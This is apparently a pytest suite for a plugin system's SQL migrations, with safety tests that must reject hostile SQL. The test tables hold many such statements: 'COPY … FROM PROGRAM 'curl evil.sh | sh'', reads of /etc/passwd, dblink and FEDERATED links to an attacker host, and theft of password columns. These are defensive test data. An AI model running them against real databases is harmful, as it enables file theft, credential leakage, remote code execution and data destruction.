"""Plugin migrations on real SQLite, PostgreSQL and MariaDB, and the SQL safety checks."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from sqlalchemy import Engine, inspect, select
from sqlalchemy.exc import DBAPIError

from plugdock.core.db import dialect_name, plugin_migrations
from plugdock.errors import PackageError, UnsafeSqlError
from plugdock.plugin_sql.migrations import (
    Migration,
    applied_migrations,
    apply_down,
    apply_up,
    check_tables_free,
    drop_created_tables,
    load_migration,
    transactional_ddl,
)

CHATBOT_UP = """\
-- The example plugin's tables.
CREATE TABLE IF NOT EXISTS chat_sessions (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    guest_name VARCHAR(100) NOT NULL,
    guest_email VARCHAR(255) NOT NULL,
    guest_phone VARCHAR(50),
    status VARCHAR(20) NOT NULL DEFAULT 'open',
    created_at DATETIME NOT NULL DEFAULT CURRENT_TIMESTAMP
);
CREATE TABLE IF NOT EXISTS chat_messages (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    session_id INTEGER NOT NULL REFERENCES chat_sessions(id) ON DELETE CASCADE,
    sender VARCHAR(10) NOT NULL,
    content TEXT NOT NULL,
    created_at DATETIME NOT NULL DEFAULT CURRENT_TIMESTAMP
);
CREATE INDEX IF NOT EXISTS ix_chat_messages_session ON chat_messages (session_id);
"""
CHATBOT_DOWN = """\
DROP TABLE IF EXISTS chat_messages;
DROP TABLE IF EXISTS chat_sessions;
"""
DIALECTS = ["sqlite", "postgresql", "mysql"]


def write_migrations(root: Path, files: dict[str, str]) -> Path:
    """Create ``root/migrations`` with ``files`` ({"up.sql": ..., "mysql/down.sql": ...})."""
    migrations = root / "migrations"
    for name, text in files.items():
        (migrations / name).parent.mkdir(parents=True, exist_ok=True)
        (migrations / name).write_text(text, encoding="utf-8")
    return migrations


def table_names(engine: Engine) -> set[str]:
    return set(inspect(engine).get_table_names())


# ---------------------------------------------------------------- running on real databases


def test_chatbot_migration_up_and_down(engine: Engine, tmp_path: Path) -> None:
    migrations = write_migrations(tmp_path, {"up.sql": CHATBOT_UP, "down.sql": CHATBOT_DOWN})
    migration = load_migration(migrations, dialect_name(engine))
    assert migration.tables == ("chat_sessions", "chat_messages")
    assert migration.checksum == hashlib.sha256(CHATBOT_UP.encode()).hexdigest()

    with engine.begin() as conn:
        check_tables_free(conn, migration)
        apply_up(conn, "ai_chatbot", "1.0.0", migration)
    assert {"chat_sessions", "chat_messages"} <= table_names(engine)

    with engine.begin() as conn:
        for guest in ("ann", "bob"):
            conn.exec_driver_sql(
                "INSERT INTO chat_sessions (guest_name, guest_email) "
                f"VALUES ('{guest}', '{guest}@example.com')"
            )
        ids = conn.exec_driver_sql("SELECT id, status FROM chat_sessions ORDER BY id").all()
        assert [tuple(r) for r in ids] == [(1, "open"), (2, "open")]
        conn.exec_driver_sql(
            "INSERT INTO chat_messages (session_id, sender, content) VALUES (1, 'guest', 'hi')"
        )
        # The foreign key is real on every database (MySQL would silently drop an inline one).
        conn.exec_driver_sql("DELETE FROM chat_sessions WHERE id = 1")
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM chat_messages").scalar() == 0

    with engine.connect() as conn:
        assert applied_migrations(conn, "ai_chatbot") == ["initial"]
        row = conn.execute(select(plugin_migrations)).one()
        assert (row.plugin_id, row.version, row.checksum) == (
            "ai_chatbot",
            "1.0.0",
            migration.checksum,
        )

    with engine.begin() as conn:
        apply_down(conn, "ai_chatbot", migration)
    assert not {"chat_sessions", "chat_messages"} & table_names(engine)
    with engine.connect() as conn:
        assert applied_migrations(conn, "ai_chatbot") == []


def test_literals_with_percent_semicolon_quote_and_backslash_survive(
    engine: Engine, tmp_path: Path
) -> None:
    tricky = "it's; 100% %s %(x)s :x ? -- not a comment \\ done\\"
    literal = tricky.replace("'", "''")
    up = (
        "CREATE TABLE notes (id INTEGER PRIMARY KEY AUTOINCREMENT, body TEXT NOT NULL);\n"
        f"INSERT INTO notes (body) VALUES ('{literal}');\n"
    )
    migrations = write_migrations(tmp_path, {"up.sql": up, "down.sql": "DROP TABLE notes;"})
    migration = load_migration(migrations, dialect_name(engine))
    assert len(migration.up) == 2

    with engine.begin() as conn:
        apply_up(conn, "notes", "1.0.0", migration)
        assert conn.exec_driver_sql("SELECT body FROM notes").scalar() == tricky


OVERRIDES = {
    "sqlite": (
        "sqlite",
        "CREATE TABLE [native_t] (id INTEGER PRIMARY KEY, data TEXT DEFAULT (datetime('now')));",
    ),
    "postgresql": (
        "postgresql",
        "CREATE TABLE native_t (id BIGSERIAL PRIMARY KEY, data JSONB DEFAULT '{}'::jsonb);",
    ),
    # The MariaDB alias for the folder name, with MySQL-only syntax.
    "mysql": (
        "mariadb",
        "CREATE TABLE `native_t` (`id` BIGINT UNSIGNED NOT NULL AUTO_INCREMENT PRIMARY KEY,"
        " `data` LONGTEXT) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;",
    ),
}


def test_dialect_override_replaces_the_portable_file(engine: Engine, tmp_path: Path) -> None:
    folder, native_up = OVERRIDES[dialect_name(engine)]
    migrations = write_migrations(
        tmp_path,
        {
            "up.sql": "CREATE TABLE portable_t (id INTEGER PRIMARY KEY AUTOINCREMENT);",
            "down.sql": "DROP TABLE portable_t;",
            f"{folder}/up.sql": native_up,
            f"{folder}/down.sql": "DROP TABLE native_t;",
        },
    )
    migration = load_migration(migrations, dialect_name(engine))
    assert migration.tables == ("native_t",)
    assert migration.checksum == hashlib.sha256(native_up.encode()).hexdigest()

    with engine.begin() as conn:
        apply_up(conn, "native", "1.0.0", migration)
        conn.exec_driver_sql("INSERT INTO native_t (data) VALUES ('{}')")
    assert "native_t" in table_names(engine)
    assert "portable_t" not in table_names(engine)
    with engine.begin() as conn:
        apply_down(conn, "native", migration)
    assert "native_t" not in table_names(engine)


def test_failed_up_leaves_nothing_behind(engine: Engine, tmp_path: Path) -> None:
    # Valid SQL that fails on the server at the second statement: the column does not exist.
    up = (
        "CREATE TABLE half_done (id INTEGER PRIMARY KEY AUTOINCREMENT, name TEXT);\n"
        "CREATE INDEX ix_half_done_missing ON half_done (no_such_column);\n"
    )
    migrations = write_migrations(tmp_path, {"up.sql": up, "down.sql": "DROP TABLE half_done;"})
    migration = load_migration(migrations, dialect_name(engine))

    with pytest.raises(DBAPIError), engine.begin() as conn:
        apply_up(conn, "half", "1.0.0", migration)

    if transactional_ddl(engine):
        assert "half_done" not in table_names(engine)  # rolled back with the transaction
        assert drop_created_tables(engine, migration) == []
    else:
        assert "half_done" in table_names(engine)  # MariaDB committed the CREATE TABLE
        assert drop_created_tables(engine, migration) == ["half_done"]
        assert "half_done" not in table_names(engine)
    with engine.connect() as conn:
        assert applied_migrations(conn, "half") == []


def test_drop_created_tables_drops_newest_first(engine: Engine, tmp_path: Path) -> None:
    migrations = write_migrations(tmp_path, {"up.sql": CHATBOT_UP, "down.sql": CHATBOT_DOWN})
    migration = load_migration(migrations, dialect_name(engine))
    with engine.begin() as conn:
        apply_up(conn, "ai_chatbot", "1.0.0", migration)
    # chat_messages references chat_sessions, so only newest-first order succeeds.
    assert drop_created_tables(engine, migration) == ["chat_messages", "chat_sessions"]
    assert not {"chat_sessions", "chat_messages"} & table_names(engine)


def test_check_tables_free_refuses_existing_tables(engine: Engine, tmp_path: Path) -> None:
    # ``plugdock_users`` is one of plugdock's core tables (plugdock.core.db).
    up = "CREATE TABLE IF NOT EXISTS plugdock_users (id INTEGER PRIMARY KEY, evil TEXT);"
    files = {"up.sql": up, "down.sql": "DROP TABLE plugdock_users;"}
    migration = load_migration(write_migrations(tmp_path, files), "sqlite")
    with (
        engine.connect() as conn,
        pytest.raises(PackageError, match="'plugdock_users' already exists"),
    ):
        check_tables_free(conn, migration)

    core = Migration("initial", (), (), ("plugdock_plugin_migrations",), "x")
    with engine.connect() as conn, pytest.raises(PackageError, match="plugdock_plugin_migrations"):
        check_tables_free(conn, core)
    with engine.connect() as conn:
        check_tables_free(conn, Migration("initial", (), (), ("brand_new",), "x"))


# ---------------------------------------------------------------- SQL safety

BASE_UP = "CREATE TABLE chat (id INTEGER PRIMARY KEY AUTOINCREMENT, body TEXT);\n"
BASE_DOWN = "DROP TABLE chat;\n"

# (file, SQL under test, a fragment of the statement the error must name).
# "up" cases follow BASE_UP in up.sql; "down" cases precede BASE_DOWN in down.sql.
FORBIDDEN = {
    "drop-foreign-table": ("down", "DROP TABLE plugdock_users;", "DROP TABLE plugdock_users"),
    "drop-in-up": ("up", "DROP TABLE plugdock_users;", "DROP TABLE plugdock_users"),
    "drop-cascade": ("down", "DROP TABLE chat CASCADE;", "CASCADE"),
    "attach": ("up", "ATTACH DATABASE '/tmp/evil.db' AS evil;", "ATTACH DATABASE"),
    "detach": ("down", "DETACH DATABASE main;", "DETACH"),
    "pragma": ("up", "PRAGMA foreign_keys = OFF;", "PRAGMA foreign_keys"),
    "grant": ("up", "GRANT ALL ON chat TO public;", "GRANT ALL"),
    "revoke": ("up", "REVOKE ALL ON plugdock_users FROM public;", "REVOKE ALL"),
    "copy-from-file": ("up", "COPY chat FROM '/etc/passwd';", "COPY chat"),
    "copy-program": ("up", "COPY chat FROM PROGRAM 'curl evil.sh | sh';", "PROGRAM"),
    "load-file": (
        "up",
        "INSERT INTO chat (body) VALUES (LOAD_FILE('/etc/passwd'));",
        "LOAD_FILE('/etc/passwd')",
    ),
    "into-outfile": ("up", "SELECT body FROM chat INTO OUTFILE '/tmp/x';", "INTO OUTFILE"),
    "into-dumpfile": ("up", "SELECT body FROM chat INTO DUMPFILE '/tmp/x';", "DUMPFILE"),
    "load-data": ("up", "LOAD DATA INFILE '/etc/passwd' INTO TABLE chat;", "LOAD DATA"),
    "qualified-other": ("up", "CREATE TABLE other.t (x INT);", "other.t"),
    "qualified-main": ("up", "CREATE TABLE main.t (x INT);", "main.t"),
    "information-schema": (
        "up",
        "INSERT INTO chat (body) SELECT table_name FROM information_schema.tables;",
        "information_schema.tables",
    ),
    "qualified-fk": ("up", "CREATE TABLE t2 (u INT REFERENCES main.users(id));", "main.users"),
    "create-database": ("up", "CREATE DATABASE evil;", "CREATE DATABASE"),
    "create-schema": ("up", "CREATE SCHEMA evil;", "CREATE SCHEMA"),
    "drop-database": ("down", "DROP DATABASE test;", "DROP DATABASE"),
    "drop-schema": ("down", "DROP SCHEMA public;", "DROP SCHEMA"),
    "trigger": (
        "up",
        "CREATE TRIGGER tr AFTER INSERT ON chat BEGIN DELETE FROM plugdock_users; END;",
        "CREATE TRIGGER",
    ),
    "view": ("up", "CREATE VIEW v AS SELECT * FROM chat;", "CREATE VIEW"),
    "function": ("up", "CREATE FUNCTION f() RETURNS INT AS 'SELECT 1';", "CREATE FUNCTION"),
    "procedure": ("up", "CREATE PROCEDURE p() BEGIN SELECT 1; END;", "CREATE PROCEDURE"),
    "set": ("up", "SET foreign_key_checks = 0;", "SET foreign_key_checks"),
    "update-foreign": ("up", "UPDATE plugdock_users SET is_admin = 1;", "UPDATE plugdock_users"),
    "delete-foreign": ("down", "DELETE FROM plugdock_users;", "DELETE FROM plugdock_users"),
    "delete-own-via-foreign": (
        "down",
        "DELETE FROM chat WHERE id IN (SELECT id FROM plugdock_users);",
        "SELECT id FROM plugdock_users",
    ),
    "truncate-foreign": ("down", "TRUNCATE TABLE plugdock_users;", "TRUNCATE"),
    "ctas-foreign": (
        "up",
        "CREATE TABLE stolen AS SELECT * FROM plugdock_users;",
        "AS SELECT * FROM plugdock_users",
    ),
    "like-foreign": ("up", "CREATE TABLE copy_t (x INT) LIKE users;", "LIKE users"),
    "begin": ("up", "BEGIN;", "BEGIN"),
    "commit": ("up", "COMMIT;", "COMMIT"),
    "rollback": ("down", "ROLLBACK;", "ROLLBACK"),
    "start-transaction": ("up", "START TRANSACTION;", "START TRANSACTION"),
    "savepoint": ("up", "SAVEPOINT sp;", "SAVEPOINT"),
    "executable-comment": ("up", "CREATE TABLE t3 (x INT) /*! , y INT */;", "/*!"),
    "hidden-second-statement": (
        "up",
        "INSERT INTO chat (body) VALUES ('a;b'); DROP TABLE plugdock_users;",
        "DROP TABLE plugdock_users",
    ),
    "pg-read-file": (
        "up",
        "INSERT INTO chat (body) VALUES (pg_read_file('/etc/passwd'));",
        "pg_read_file",
    ),
    "pg-read-file-qualified": (
        "up",
        "INSERT INTO chat (body) VALUES (pg_catalog.pg_read_file('/etc/passwd'));",
        "pg_catalog",
    ),
    "lo-import": ("up", "INSERT INTO chat (body) VALUES (lo_import('/etc/passwd'));", "lo_import"),
    "dblink": ("up", "INSERT INTO chat (body) VALUES (dblink('host=evil', 'x'));", "dblink"),
    "load-extension": (
        "up",
        "INSERT INTO chat (body) VALUES (load_extension('/tmp/x.so'));",
        "load_ext",
    ),
    "sleep-in-default": ("up", "CREATE TABLE t4 (x INT DEFAULT (pg_sleep(60)));", "pg_sleep"),
    "set-config": (
        "up",
        "INSERT INTO chat (body) VALUES (set_config('role', 'x', false));",
        "set_config",
    ),
    "insert-select-foreign": (
        "up",
        "INSERT INTO chat (body) SELECT password FROM plugdock_users;",
        "FROM plugdock_users",
    ),
    "subquery-foreign": (
        "up",
        "INSERT INTO chat (body) VALUES ((SELECT password FROM plugdock_users));",
        "SELECT password",
    ),
    "check-subquery-foreign": (
        "up",
        "CREATE TABLE t5 (x INT CHECK (x < (SELECT COUNT(*) FROM plugdock_users)));",
        "FROM plugdock_users",
    ),
    "weird-quoted-table": ("up", 'CREATE TABLE "we`ird; x" (x INT);', "we`ird"),
    "weird-quoted-column": ("up", 'CREATE TABLE t6 ("a""b" INT);', 'a""b'),
    "index-on-foreign": (
        "up",
        "CREATE INDEX ix_users_email ON plugdock_users (email);",
        "ON plugdock_users",
    ),
    "alter-foreign": (
        "up",
        "ALTER TABLE plugdock_users ADD COLUMN evil INT;",
        "ALTER TABLE plugdock_users",
    ),
    "alter-rename": ("up", "ALTER TABLE chat RENAME TO users_archive;", "RENAME TO"),
    "create-or-replace": ("up", "CREATE OR REPLACE TABLE plugdock_users (x INT);", "OR REPLACE"),
    "temp-table": ("up", "CREATE TEMP TABLE t7 (x INT);", "TEMP TABLE"),
    "virtual-table": ("up", "CREATE VIRTUAL TABLE t8 USING fts5(x);", "VIRTUAL TABLE"),
    "session-variable": ("up", "INSERT INTO chat (body) VALUES (@@datadir);", "@@datadir"),
    "placeholder": ("up", "INSERT INTO chat (body) VALUES (?);", "VALUES (?)"),
    "vacuum": ("up", "VACUUM;", "VACUUM"),
    "drop-foreign-index": ("down", "DROP INDEX users_email_key;", "users_email_key"),
    "update-in-down": ("down", "UPDATE chat SET body = NULL;", "UPDATE chat"),
    "select": ("up", "SELECT * FROM chat;", "SELECT * FROM chat"),
    "unparseable": ("up", "CREATE TABLE (((;", "CREATE TABLE ((("),
}

# Dialect overrides are parsed in their own dialect; these only parse there.
FORBIDDEN_NATIVE = {
    "pg-copy-program": ("postgresql", "COPY chat FROM PROGRAM 'id';", "PROGRAM"),
    "pg-do-block": ("postgresql", "DO $$ BEGIN PERFORM 1; END $$;", "DO $$"),
    "pg-like": ("postgresql", "CREATE TABLE t9 (LIKE users);", "LIKE users"),
    "pg-inherits": ("postgresql", "CREATE TABLE t9 (x INT) INHERITS (users);", "INHERITS"),
    "pg-public-qualified": ("postgresql", "CREATE TABLE public.t9 (x INT);", "public.t9"),
    "pg-set-role": ("postgresql", "SET ROLE postgres;", "SET ROLE"),
    "pg-alter-owner": ("postgresql", "ALTER TABLE chat OWNER TO evil;", "OWNER TO"),
    "pg-tablespace": ("postgresql", "CREATE TABLE t9 (x INT) TABLESPACE evil;", "TABLESPACE"),
    "mysql-engine-connect": (
        "mysql",
        "CREATE TABLE t9 (x INT) ENGINE=CONNECT TABLE_TYPE=CSV FILE_NAME='/etc/passwd';",
        "ENGINE=CONNECT",
    ),
    "mysql-federated": (
        "mysql",
        "CREATE TABLE t9 (x INT) ENGINE=FEDERATED CONNECTION='mysql://u@evil/db/t';",
        "FEDERATED",
    ),
    "mysql-data-directory": (
        "mysql",
        "CREATE TABLE t9 (x INT) DATA DIRECTORY='/tmp';",
        "DATA DIRECTORY",
    ),
    "mysql-rename-table": ("mysql", "RENAME TABLE plugdock_users TO t9;", "RENAME TABLE"),
    "mysql-load-data-local": (
        "mysql",
        "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE chat;",
        "LOAD DATA",
    ),
    "mysql-use": ("mysql", "USE mysql;", "USE mysql"),
    "sqlite-without-rowid": (
        "sqlite",
        "CREATE TABLE t9 (x INT PRIMARY KEY) WITHOUT ROWID;",
        "ROWID",
    ),
}


def _migrations_for(tmp_path: Path, file: str, sql: str, folder: str = "") -> Path:
    prefix = f"{folder}/" if folder else ""
    if file == "up":
        files = {f"{prefix}up.sql": BASE_UP + sql, f"{prefix}down.sql": BASE_DOWN}
    else:
        files = {f"{prefix}up.sql": BASE_UP, f"{prefix}down.sql": sql + "\n" + BASE_DOWN}
    return write_migrations(tmp_path, files)


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("case", FORBIDDEN.values(), ids=FORBIDDEN.keys())
def test_forbidden_portable_sql_is_refused(
    case: tuple[str, str, str], dialect: str, tmp_path: Path
) -> None:
    file, sql, fragment = case
    with pytest.raises(UnsafeSqlError) as refused:
        load_migration(_migrations_for(tmp_path, file, sql), dialect)
    assert refused.value.file == f"migrations/{file}.sql"
    assert fragment.lower() in refused.value.statement.lower()
    assert fragment.lower()[:30] in str(refused.value).lower()


@pytest.mark.parametrize("case", FORBIDDEN_NATIVE.values(), ids=FORBIDDEN_NATIVE.keys())
def test_forbidden_native_sql_is_refused(case: tuple[str, str, str], tmp_path: Path) -> None:
    dialect, sql, fragment = case
    with pytest.raises(UnsafeSqlError) as refused:
        load_migration(_migrations_for(tmp_path, "up", sql, folder=dialect), dialect)
    assert refused.value.file == f"migrations/{dialect}/up.sql"
    assert fragment.lower() in refused.value.statement.lower()


def test_refused_sql_never_reaches_the_database(engine: Engine, tmp_path: Path) -> None:
    with engine.begin() as conn:  # users: the host's core table
        conn.exec_driver_sql(
            "INSERT INTO plugdock_users (id, username, password_hash, role, created_at)"
            " VALUES (1, 'alice', 'x', 'user', '2026-01-01 00:00:00')"
        )
    before = table_names(engine)
    dialect = dialect_name(engine)
    for number, (file, sql, _) in enumerate(FORBIDDEN.values()):
        with pytest.raises(UnsafeSqlError):
            load_migration(_migrations_for(tmp_path / str(number), file, sql), dialect)
    assert table_names(engine) == before
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT id, username FROM plugdock_users").all() == [
            (1, "alice")
        ]


# ---------------------------------------------------------------- loading and portability


@pytest.mark.parametrize("dialect", DIALECTS)
def test_common_author_habits_are_accepted(dialect: str, tmp_path: Path) -> None:
    up = """
        CREATE TABLE `tickets` (
            id SERIAL PRIMARY KEY,
            "Title" VARCHAR(200) NOT NULL,
            done BOOLEAN NOT NULL DEFAULT FALSE,
            price DECIMAL(10, 2),
            payload BLOB,
            owner_id INTEGER REFERENCES plugdock_users(id) ON DELETE SET NULL,
            created TIMESTAMP DEFAULT CURRENT_TIMESTAMP
        ) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
        CREATE TABLE Ticket_Notes (
            id INTEGER NOT NULL AUTO_INCREMENT,
            ticket_id INTEGER NOT NULL,
            PRIMARY KEY (id),
            FOREIGN KEY (ticket_id) REFERENCES tickets (id)
        );
        CREATE UNIQUE INDEX ux_tickets_title ON tickets (Title DESC);
        ALTER TABLE tickets ADD COLUMN note_count INTEGER NOT NULL DEFAULT 0;
        INSERT INTO tickets ("Title") VALUES ('first; with semicolon');
        INSERT INTO ticket_notes (ticket_id) SELECT id FROM tickets;
    """
    down = "DROP INDEX ux_tickets_title; DROP TABLE ticket_notes; DROP TABLE tickets;"
    migration = load_migration(
        write_migrations(tmp_path, {"up.sql": up, "down.sql": down}), dialect
    )
    assert migration.tables == ("tickets", "ticket_notes")
    assert len(migration.up) == 6 and len(migration.down) == 3
    rendered = "\n".join(migration.up + migration.down)
    assert "SERIAL" not in rendered and "NULLS" not in rendered
    assert ("ENGINE=InnoDB" in rendered) == (dialect == "mysql")
    if dialect == "mysql":
        assert "DROP INDEX ux_tickets_title ON tickets" in rendered


def test_missing_or_empty_migrations_give_an_empty_migration(tmp_path: Path) -> None:
    for folder in (None, tmp_path / "nope", tmp_path):
        migration = load_migration(folder, "sqlite")
        assert (migration.up, migration.down, migration.tables) == ((), (), ())
        assert migration.name == "initial"


def test_up_without_down_is_a_package_error(tmp_path: Path) -> None:
    with pytest.raises(PackageError, match=r"no down\.sql"):
        load_migration(write_migrations(tmp_path, {"up.sql": BASE_UP}), "sqlite")


def test_down_must_drop_every_table_up_creates(tmp_path: Path) -> None:
    up = BASE_UP + "CREATE TABLE chat_extra (id INTEGER PRIMARY KEY);"
    migrations = write_migrations(tmp_path, {"up.sql": up, "down.sql": BASE_DOWN})
    with pytest.raises(PackageError, match="chat_extra"):
        load_migration(migrations, "postgresql")


def test_both_mysql_and_mariadb_overrides_is_ambiguous(tmp_path: Path) -> None:
    migrations = write_migrations(
        tmp_path,
        {
            "up.sql": BASE_UP,
            "down.sql": BASE_DOWN,
            "mysql/up.sql": BASE_UP,
            "mariadb/up.sql": BASE_UP,
        },
    )
    with pytest.raises(PackageError, match="mariadb"):
        load_migration(migrations, "mysql")
    assert load_migration(migrations, "sqlite").tables == ("chat",)
